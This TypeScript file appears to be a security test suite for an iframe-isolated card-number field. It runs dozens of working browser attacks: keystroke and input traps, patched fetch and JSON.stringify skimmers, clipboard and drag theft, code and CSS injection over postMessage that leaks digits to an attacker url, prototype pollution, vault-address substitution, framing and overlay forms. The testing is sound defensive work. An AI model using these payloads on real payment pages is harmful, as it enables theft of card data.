import { NUMBER, hasNumber, type Scene, type Victim } from './scene.ts'

/** What a script of the page tries, and whether it had its way. */
export interface Attack {
  name: string
  /** Where it is seen to succeed. */
  weak: Exclude<Victim, 'ours'>
  run: (scene: Scene) => Promise<boolean>
  /** It cannot be prevented: why, and what is done about it. */
  remains?: string
  /** The header without which it works, and what comes of it then. */
  header?: string
  /** Only engines whose mouse can drag. */
  drags?: true
  /** Where the page is as good as new for the next attack: wherever it is tried, or where it fails. */
  keeps?: 'everywhere' | 'ours'
}

const guess = 'guessed-nonce-0001'

/** Types a number, then reads by this function of the page. */
const reading = (name: string, weak: Attack['weak'], run: () => unknown): Attack => ({
  name: `read ${name}`,
  weak,
  keeps: 'everywhere',
  async run({ openTyped, until, tab }) {
    await openTyped()
    return until(async () => hasNumber(await tab.evaluate(run)))
  },
})

/** Sets a trap in the page, which writes into `caught`; then a number is typed, or the card is sent. */
const trapping = (name: string, weak: Attack['weak'], trap: () => void, sends = false): Attack => ({
  name: `catch ${name}`,
  weak,
  ...(!sends && { keeps: 'ours' }),
  async run({ open, type, send, until, tab }) {
    await open()
    await tab.evaluate(trap).catch(() => {})
    await (sends ? send() : type())
    return until(async () => hasNumber(await tab.evaluate(() => Reflect.get(window, 'caught'))))
  },
})

/** Posts a message before a number is typed; the attacker's server, or a message, then has what it wanted. */
const posting = (
  name: string,
  message: (evil: string) => object,
  hasWorked: (scene: Scene) => Promise<boolean>,
): Attack => ({
  name: `post ${name}`,
  weak: 'weak',
  keeps: 'everywhere',
  async run(scene) {
    await scene.open()
    scene.evil.heard.length = 0
    await scene.post(message(scene.evil.url))
    await scene.type()
    await scene.post(message(scene.evil.url))
    return scene.until(() => hasWorked(scene))
  },
})
const heard = (text: string) => async (scene: Scene) =>
  scene.evil.heard.some((each) => each.includes(text))
const saidNumber = async (scene: Scene) => hasNumber(await scene.said())

/** Says hello with a port of its own, and waits for an answer. */
const greeting = (
  name: string,
  hello: (given: { nonce: string }) => { v: number; nonce: string; ports: number },
): Attack => ({
  name: `open a channel ${name}`,
  weak: 'weak',
  keeps: 'everywhere',
  async run({ open, tab, until }) {
    await open()
    const nonce = await tab.evaluate(() => window.spied.nonces[0] ?? 'none-was-told')
    const { ports, ...message } = hello({ nonce })
    await tab.evaluate(
      (each, count) => {
        Reflect.set(window, 'answers', [])
        const answers: unknown[] = Reflect.get(window, 'answers')
        const channels = Array.from({ length: count }, () => new MessageChannel())
        for (const { port1 } of channels) {
          port1.addEventListener('message', ({ data }) => answers.push(data))
          port1.start()
        }
        addEventListener('message', ({ data }) => data.t === 'weak-up' && answers.push(data))
        const theirs = channels.map(({ port2 }) => port2)
        frames[0]?.postMessage({ t: 'cm-hello', ...each }, '*', theirs)
      },
      message,
      ports,
    )
    return until(() => tab.evaluate(() => Reflect.get(window, 'answers').length > 0))
  },
})

/** Takes all out of the number with these keys, and puts it into a field of the page. */
const carrying = (key: string): Attack => ({
  name: `have the number carried out by ${key} and pasted into the page`,
  weak: 'weak',
  async run({ open, type, tab, until }) {
    await open()
    await tab.evaluate(() => {
      document.body.prepend(
        Object.assign(document.createElement('textarea'), { id: 'bait', value: '' }),
      )
    })
    // what was copied before is not this number
    await tab.evaluate(() => {
      const bait = document.querySelector<HTMLTextAreaElement>('#bait')
      if (bait) bait.value = 'nothing'
    })
    await tab.click('#bait')
    await tab.press('Control+a', 'Control+c', 'Delete')
    await type()
    await tab.press('Control+a', key)
    return until(async () => {
      // the focus comes from another process, and may come late
      await tab.click('#bait')
      await tab.press('Control+v')
      return hasNumber(
        await tab.evaluate(() => document.querySelector<HTMLTextAreaElement>('#bait')?.value),
      )
    })
  },
})

export const attacks: readonly Attack[] = [
  reading('the document of the frame', 'own', () => {
    const iframe = document.querySelector('iframe')
    return iframe?.contentDocument?.querySelector<HTMLInputElement>('[name=number]')?.value
  }),
  reading('the forms of its window', 'own', () => {
    const form = frames[0]?.document.forms[0]
    return form && Array.from(form.elements, (each) => Reflect.get(each, 'value')).join(' ')
  }),
  reading('by code run in its window', 'own', () =>
    Reflect.get(Object(frames[0]), 'eval')('document.querySelector("[name=number]").value'),
  ),
  reading('its selection', 'own', () => {
    const selection = frames[0]?.getSelection()
    selection?.selectAllChildren(Object(frames[0]?.document.body))
    return String(selection)
  }),
  reading('its focused field', 'own', () =>
    Reflect.get(Object(frames[0]?.document.activeElement), 'value'),
  ),
  reading('its markup', 'own', () =>
    new XMLSerializer().serializeToString(
      Object(document.querySelector('iframe')?.contentDocument),
    ),
  ),
  reading('the field under a point', 'own', () => {
    const field = frames[0]?.document.querySelector('[name=number]')
    const { x = 0, y = 0 } = field?.getBoundingClientRect() ?? {}
    return Reflect.get(Object(frames[0]?.document.elementFromPoint(x + 5, y + 5)), 'value')
  }),
  reading('what React keeps of it', 'own', () => {
    const field = frames[0]?.document.querySelector<HTMLInputElement>('[name=number]')
    const key = Object.keys(Object(field)).find((each) => each.startsWith('__reactFiber'))
    return Reflect.get(Object(field), String(key)).stateNode.value
  }),
  reading('a draft in the storage', 'own', () => localStorage.getItem('draft')),
  reading('fields of the page', 'page', () =>
    [...document.querySelectorAll('input')].map(({ value }) => value).join(' '),
  ),
  reading('the selection of the page', 'page', () => {
    const field = document.activeElement
    return field instanceof HTMLInputElement ? (field.select(), String(getSelection())) : ''
  }),
  {
    name: 'read the name of its window after leading it to a page of ours',
    weak: 'weak',
    async run({ open, type, tab, until }) {
      await open()
      await type()
      await tab.evaluate(() => {
        const iframe = document.querySelector('iframe')
        if (iframe) iframe.src = '/nothing-here'
      })
      return until(async () => hasNumber(await tab.evaluate(() => frames[0]?.name)))
    },
  },
  {
    name: 'ask over a BroadcastChannel',
    weak: 'own',
    keeps: 'everywhere',
    async run({ open, type, tab, until }) {
      await open()
      await type()
      await tab.evaluate(() => {
        const channel = new BroadcastChannel('cards')
        channel.addEventListener('message', ({ data }) => Reflect.set(window, 'caught', data.value))
        channel.postMessage({ read: 'number' })
      })
      return until(async () => hasNumber(await tab.evaluate(() => Reflect.get(window, 'caught'))))
    },
  },
  trapping('keys in its window', 'own', () => {
    Reflect.set(window, 'caught', '')
    frames[0]?.addEventListener('keydown', ({ key }) =>
      Reflect.set(window, 'caught', Reflect.get(window, 'caught') + key),
    )
  }),
  trapping('input events in its document', 'own', () => {
    Reflect.set(window, 'caught', '')
    frames[0]?.document.addEventListener('beforeinput', ({ data }) =>
      Reflect.set(window, 'caught', Reflect.get(window, 'caught') + data),
    )
  }),
  trapping('changes of its markup', 'own', () => {
    const root = Object(document.querySelector('iframe')?.contentDocument)
    new MutationObserver(() => Reflect.set(window, 'caught', root.body.textContent)).observe(root, {
      subtree: true,
      childList: true,
    })
  }),
  trapping('keys of the page', 'page', () => {
    Reflect.set(window, 'caught', '')
    addEventListener(
      'keydown',
      ({ key }) => Reflect.set(window, 'caught', Reflect.get(window, 'caught') + key),
      true,
    )
  }),
  trapping('input events of the page', 'page', () => {
    addEventListener(
      'input',
      ({ target }) => Reflect.set(window, 'caught', Reflect.get(Object(target), 'value')),
      true,
    )
  }),
  trapping(
    'the card in a patched fetch',
    'page',
    () => {
      const { Request: Original } = window
      Reflect.set(window, 'caught', '')
      const keep = (init?: RequestInit) =>
        Reflect.set(window, 'caught', Reflect.get(window, 'caught') + String(init?.body))
      window.Request = class extends Original {
        constructor(input: RequestInfo | URL, init?: RequestInit) {
          super(input, init)
          keep(init)
        }
      }
    },
    true,
  ),
  trapping(
    'the card in a patched JSON.stringify',
    'page',
    () => {
      const { stringify } = JSON
      Reflect.set(window, 'caught', '')
      const patched = (...args: unknown[]) => {
        const text = Reflect.apply(stringify, JSON, args)
        Reflect.set(window, 'caught', Reflect.get(window, 'caught') + text)
        return text
      }
      Reflect.set(window, 'JSON', { parse: JSON.parse, stringify: patched })
    },
    true,
  ),
  carrying('Control+c'),
  carrying('Control+x'),
  {
    name: 'have the number dragged out of its field',
    weak: 'weak',
    drags: true,
    async run({ open, type, tab, inFrame, drag, until }) {
      await open()
      await type()
      await tab.press('Control+a')
      // whatever starts to be dragged can be dropped on the page
      await inFrame(() =>
        addEventListener('dragstart', (event) => {
          if (!event.defaultPrevented)
            Reflect.set(window, 'dragged', event.dataTransfer?.getData('text'))
        }),
      )
      const field = await inFrame(() => {
        const { x, y } = Object(document.querySelector('[name=number]')).getBoundingClientRect()
        return [x, y] as const
      })
      const place = await tab.evaluate(() => {
        const { x, y } = Object(document.querySelector('iframe')).getBoundingClientRect()
        return [x, y] as const
      })
      await drag?.([place[0] + field[0] + 25, place[1] + field[1] + 20], [2, 2])
      return until(async () => hasNumber(await inFrame(() => Reflect.get(window, 'dragged'))))
    },
  },
  {
    name: 'read every message of windows and ports while a number is typed',
    weak: 'weak',
    keeps: 'everywhere',
    async run({ open, type, said, until }) {
      await open()
      await type()
      return until(async () => hasNumber(await said()))
    },
  },
  {
    name: 'count keys by messages',
    weak: 'weak',
    keeps: 'everywhere',
    async run({ open, type, tab, until }) {
      await open()
      await type(NUMBER.slice(0, 6))
      await tab.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)))
      const count = () => tab.evaluate(() => window.spied.read.length)
      const before = await count()
      await tab.press('4', '2', '4', '2')
      return until(async () => (await count()) - before >= 4)
    },
  },
  {
    name: 'tell digits by the height of the frame',
    weak: 'weak',
    keeps: 'everywhere',
    async run({ open, type, tab, said, until }) {
      await open()
      await type('424')
      const heights = async () => {
        const told = (await said()).match(/"height":(\d+)/g) ?? []
        const shown = await tab.evaluate(() => document.querySelector('iframe')?.clientHeight)
        return new Set([...told.slice(-1), shown]).size + new Set(told).size
      }
      const before = await heights()
      await tab.press('2', '4', '2')
      return until(async () => (await heights()) > before)
    },
  },
  posting('a wish to read the number', () => ({ t: 'read', read: 'number' }), saidNumber),
  {
    name: 'post a wish to read from a frame beside it',
    weak: 'weak',
    keeps: 'everywhere',
    async run({ open, type, tab, said, until }) {
      await open()
      await type()
      await tab.evaluate(() => {
        const sibling = document.createElement('iframe')
        sibling.srcdoc = `<script>parent.frames[0].postMessage({ read: 'number', t: 'cm-ping', v: 1 }, '*')</script>`
        document.body.append(sibling)
      })
      return until(async () => hasNumber((await said()).match(/"value":"[^"]*"/g)))
    },
  },
  posting(
    'code',
    () => ({
      t: 'run',
      run: `parent.postMessage({ value: document.querySelector('[name=number]').value }, '*')`,
    }),
    saidNumber,
  ),
  posting(
    'markup',
    (evil) => ({
      t: 'options',
      html: `<img src="${evil}markup">`,
      options: { html: `<img src="${evil}markup">` },
    }),
    heard('/markup'),
  ),
  posting(
    'a style sheet',
    (evil) => ({ t: 'look', css: `@import '${evil}sheet';` }),
    heard('/sheet'),
  ),
  posting(
    'a picture as a colour of the theme',
    (evil) => ({
      t: 'look',
      lang: 'en',
      dir: 'ltr',
      theme: { '--cardmint-surface': `url(${evil}colour)`, surface: `url(${evil}colour)` },
      css: '[name=number] { background: var(--cardmint-surface) }',
    }),
    heard('/colour'),
  ),
  posting(
    'fonts that load digit by digit',
    (evil) => ({
      t: 'look',
      lang: 'en',
      dir: 'ltr',
      theme: { font: `x; src: url(${evil}digit)` },
      css: `@font-face { font-family: x; src: url('${evil}digit-4'); unicode-range: U+34 } [name=number] { font-family: x }`,
    }),
    heard('/digit'),
  ),
  posting(
    'a selector that matches the value',
    (evil) => ({
      t: 'look',
      css: `[name=number][value^='4242'] { background: url('${evil}starts') }`,
    }),
    heard('/starts'),
  ),
  posting(
    'a language of its own',
    (evil) => ({ t: 'look', theme: {}, dir: 'ltr', lang: `${evil}words` }),
    heard('/words'),
  ),
  posting(
    'a prototype',
    () => JSON.parse('{"t":"options","options":{"__proto__":{"polluted":1}}}'),
    ({ inFrame }) =>
      inFrame(() =>
        // Firefox runs this beside the page, whose own objects alone have the page's prototype
        [{}, Reflect.get(window, 'settings')].some((each) => Object(each).polluted === 1),
      ),
  ),
  posting(
    'a text of half a million characters',
    () => ({
      t: 'look',
      theme: {},
      dir: 'ltr',
      lang: 'a'.repeat(5e5),
      options: { x: 'a'.repeat(5e5) },
    }),
    ({ inFrame }) =>
      inFrame(() => {
        const kept = Object.values(Object(Reflect.get(window, 'settings')))
        return [...kept, document.documentElement.lang].some((each) => String(each).length > 1e5)
      }),
  ),
  {
    name: 'post three thousand messages at once, and have each answered',
    weak: 'weak',
    keeps: 'ours',
    async run({ open, type, tab, until }) {
      await open()
      await type('4')
      await tab.evaluate(() => {
        const [port] = window.spied.ports
        for (let i = 0; i < 3000; i++) {
          frames[0]?.postMessage({ read: 'number' }, '*')
          port?.postMessage({ t: 'validate', id: 1 })
        }
      })
      return until(() =>
        tab.evaluate(
          () => window.spied.read.filter((each) => /"value"|"valid"/.test(each)).length > 1500,
        ),
      )
    },
  },
  {
    name: 'post another address for the card',
    weak: 'weak',
    async run({ open, post, send, evil, until }) {
      await open()
      evil.heard.length = 0
      await post({
        t: 'options',
        options: { vault: `${evil.url}vault`, tokenizationUrl: `${evil.url}vault` },
      })
      await send()
      return until(async () => evil.heard.some(hasNumber))
    },
  },
  greeting('with a guessed nonce', () => ({ v: 1, nonce: guess, ports: 1 })),
  greeting('by a hello that was heard before', ({ nonce }) => ({ v: 1, nonce, ports: 1 })),
  greeting('of another version', ({ nonce }) => ({ v: 99, nonce, ports: 1 })),
  greeting('with two ports', ({ nonce }) => ({ v: 1, nonce, ports: 2 })),
  {
    name: 'open a channel by asking the frame for a new one',
    weak: 'weak',
    keeps: 'everywhere',
    async run({ open, tab, until }) {
      await open()
      await tab.evaluate(() => {
        Reflect.set(window, 'answers', [])
        const answers: unknown[] = Reflect.get(window, 'answers')
        window.spied.first = ({ data, source }) => {
          if (data.t === 'weak-up') answers.push(data)
          if (data.t !== 'cm-up') return
          delete window.spied.first
          const { port1, port2 } = new MessageChannel()
          port1.addEventListener('message', (event) => answers.push(event.data))
          port1.start()
          const hello = { t: 'cm-hello', v: 1, nonce: data.nonce }
          source?.postMessage(hello, { targetOrigin: '*', transfer: [port2] })
          port1.postMessage({ t: 'look', theme: {}, lang: 'en', dir: 'ltr' })
        }
        frames[0]?.postMessage({ t: 'cm-ping', v: 1 }, '*')
      })
      return until(() => tab.evaluate(() => Reflect.get(window, 'answers').length > 0))
    },
  },
  {
    name: 'have what was begun lost, by asking the frame for a new channel',
    weak: 'weak',
    async run({ open, fill, tab, inFrame, until }) {
      await open()
      await fill()
      await tab.evaluate(() => {
        // at once, so that the card is on its way
        void window.host.handle?.submit()
        for (let i = 0; i < 5; i++) frames[0]?.postMessage({ t: 'cm-ping', v: 1 }, '*')
      })
      const isLost = () =>
        tab.evaluate(() => window.host.events.some(({ type }) => type === 'error'))
      const isSaved = () =>
        tab.evaluate(() => window.host.events.some(({ type }) => type === 'token'))
      const isEmpty = () =>
        inFrame(() => document.querySelector<HTMLInputElement>('[name=number]')?.value === '')
      return until(async () => (await isLost()) || ((await isEmpty()) && !(await isSaved())))
    },
  },
  {
    name: 'embed the frame in the page of a stranger',
    weak: 'weak',
    header:
      'frame-ancestors: without it the document says there, and to that page, that it may not be shown.',
    async run({ tab, evil, frame, until }) {
      await tab.open(`${evil.url}?${new URLSearchParams({ frame })}`)
      return until(() => tab.evaluate(() => Reflect.get(window, 'got').length > 0))
    },
  },
  {
    name: 'embed the page and its frame in the page of a stranger',
    weak: 'weak',
    async run({ tab, evil, page, until }) {
      await tab.open(`${evil.url}?${new URLSearchParams({ frame: page({ hostile: '1' }) })}`)
      return until(() =>
        tab.evaluate(() => /weak-here|cm-up/.test(Reflect.get(window, 'got').join())),
      )
    },
  },
  {
    name: 'open the frame as a window, and talk to it',
    weak: 'weak',
    async run({ open, tab, frame, until }) {
      await open()
      await tab.evaluate((address) => {
        const opened = window.open(address)
        addEventListener('message', ({ source, data }) => {
          if (source === opened) Reflect.set(window, 'caught', data)
        })
        setInterval(() => opened?.postMessage({ t: 'cm-ping', v: 1 }, '*'), 100)
      }, frame)
      return until(() => tab.evaluate(() => Reflect.get(window, 'caught') !== undefined))
    },
  },
  {
    name: 'put the frame into a sandbox',
    weak: 'weak',
    async run({ open, tab, frame, until }) {
      await open()
      await tab.evaluate((address) => {
        const boxed = document.createElement('iframe')
        boxed.sandbox.add('allow-scripts')
        boxed.src = address
        document.body.append(boxed)
        addEventListener('message', ({ source, data }) => {
          if (source === boxed.contentWindow) Reflect.set(window, 'caught', data)
        })
        setInterval(() => boxed.contentWindow?.postMessage({ t: 'cm-ping', v: 1 }, '*'), 100)
      }, frame)
      return until(() => tab.evaluate(() => Reflect.get(window, 'caught') !== undefined))
    },
  },
  {
    name: 'embed another document of its origin, which reads it',
    weak: 'weak',
    keeps: 'ours',
    async run({ open, type, tab, frame, said, until }) {
      await open()
      await tab.evaluate((address) => {
        const neighbour = document.createElement('iframe')
        neighbour.src = `${address}neighbour`
        document.body.append(neighbour)
      }, frame)
      await type()
      return until(async () => hasNumber((await said()).match(/"neighbour":"[^"]*"/g)))
    },
  },
  {
    name: 'replace the frame by the name of its window',
    weak: 'weak',
    async run({ open, tab, evil, until }) {
      await open()
      await tab.evaluate((address) => {
        const frame = frames[0]
        addEventListener('message', ({ source, data }) => {
          if (source === frame && data.evil) Reflect.set(window, 'caught', true)
        })
        window.open(address, 'cards')
      }, evil.url)
      return until(() => tab.evaluate(() => Reflect.get(window, 'caught') === true))
    },
  },
  {
    name: 'see the frame load through a service worker of the page',
    weak: 'own',
    async run({ open, tab, frame, until }) {
      await open()
      await tab.evaluate(async () => {
        navigator.serviceWorker.addEventListener('message', ({ data }) =>
          Reflect.set(window, 'caught', `${Reflect.get(window, 'caught')} ${data}`),
        )
        navigator.serviceWorker.startMessages()
        await navigator.serviceWorker.register('/worker.js')
        await navigator.serviceWorker.ready
        await new Promise((resolve) => setTimeout(resolve, 300))
        const iframe = document.querySelector('iframe')
        if (iframe) iframe.src = String(iframe.src)
      })
      const hasSeen = () =>
        tab.evaluate((address) => String(Reflect.get(window, 'caught')).includes(address), frame)
      const result = await until(hasSeen)
      await tab.evaluate(async () => {
        for (const each of await navigator.serviceWorker.getRegistrations()) await each.unregister()
      })
      return result
    },
  },
  {
    name: 'take the focus while somebody types',
    weak: 'weak',
    remains:
      'a page may move the focus: the keys that follow are the page’s. The field is then incomplete, and says so.',
    async run({ open, type, tab, until }) {
      await open()
      await tab.evaluate(() => {
        document.body.append(Object.assign(document.createElement('input'), { id: 'bait' }))
      })
      await type('4242')
      await tab.evaluate(() => document.querySelector<HTMLInputElement>('#bait')?.focus())
      await tab.press(...'4242')
      return until(() =>
        tab.evaluate(() => document.querySelector<HTMLInputElement>('#bait')?.value === '4242'),
      )
    },
  },
  {
    name: 'lay a form of its own over the frame',
    weak: 'weak',
    remains:
      'a page draws what it likes, and people type where they see a field. Only the integrity of the page’s own scripts helps.',
    async run({ open, tab, until }) {
      await open()
      await tab.evaluate(() => {
        const { x, y, width, height } = Object(
          document.querySelector('iframe'),
        ).getBoundingClientRect()
        const cover = Object.assign(document.createElement('input'), { id: 'cover' })
        cover.style.cssText = `position:fixed;left:${x}px;top:${y}px;width:${width}px;height:${height}px`
        document.body.append(cover)
      })
      await tab.click('#cover')
      await tab.press(...NUMBER)
      return until(async () =>
        hasNumber(
          await tab.evaluate(() => document.querySelector<HTMLInputElement>('#cover')?.value),
        ),
      )
    },
  },
]
